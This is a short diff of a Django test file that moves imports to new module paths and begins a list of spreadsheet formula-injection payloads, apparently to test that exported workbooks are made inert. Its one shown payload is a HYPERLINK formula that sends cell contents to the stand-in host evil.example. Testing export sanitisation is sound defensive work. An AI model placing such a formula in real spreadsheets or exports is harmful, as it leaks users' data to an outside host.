@@ -20,12 +20,12 @@ from django.db import models
 from django.test import Client
 from openpyxl import load_workbook
 
-from samenspel.web.downloads import FORMULA_STARTS, inert
+from samenspel.web.core.downloads import FORMULA_STARTS, inert
+from samenspel.web.core.models import Programme
 from samenspel.web.dynamics.models import SurveyWave
 from samenspel.web.finance.models import Agreement
 from samenspel.web.monitoring.models import RegiobeeldRun
-from samenspel.web.partnership.demo import load_demo
-from samenspel.web.partnership.models import Programme
+from samenspel.web.workspace.demo import load_demo
 
 PAYLOADS = (
     '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
